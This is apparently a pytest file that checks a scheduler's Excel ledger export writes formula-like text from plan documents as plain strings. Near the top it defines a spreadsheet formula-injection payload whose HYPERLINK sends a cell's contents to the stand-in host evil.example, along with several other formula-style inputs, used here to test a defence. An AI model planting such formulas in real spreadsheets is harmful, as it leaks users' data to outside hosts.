"""Text from plan documents never becomes a live formula in the exported 台账."""

from __future__ import annotations

import zipfile
from datetime import date

import openpyxl
import pytest

from scheduler.exports.xlsx import export_ledger_xlsx

LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'


def task(title: str, **cells) -> dict:
    return {"plan": "p", "id": "p/1", "title": title, "measures": "", "deadline_text": "2019年12月底前",
            "deadline": {"kind": "due", "due": ["2019-12-31"], "start": None, "end": None},
            "lead_units": ["市生态环境局"], "cooperating_units": [], "responsible_units": [],
            "responsible_persons": [], "source": "seed.md:3", **cells}


@pytest.mark.parametrize("text", [LEAK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(tmp_path, text):
    out = export_ledger_xlsx([task(text, measures=text, lead_units=[text])], tmp_path / "x.xlsx",
                             date(2019, 12, 1), plan_titles={"p": text})
    book = openpyxl.load_workbook(out)
    plan = book.worksheets[1]  # named after the plan's short title, here the hostile text itself
    cells = [plan["D2"], plan["E2"], plan["H2"], book["汇总"]["B3"]]
    assert [c.value for c in cells] == [text] * 4
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    with zipfile.ZipFile(out) as archive:  # no formula element anywhere in the workbook
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n)
                       for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_ordinary_text_and_numbers_keep_their_types(tmp_path):
    out = export_ledger_xlsx([task("淘汰燃煤锅炉 = 目标")], tmp_path / "x.xlsx", date(2019, 12, 1))
    book = openpyxl.load_workbook(out)
    assert not book["p"]["D2"].quotePrefix
    assert book["汇总"]["C3"].value == 1 and book["汇总"]["C3"].data_type == "n"
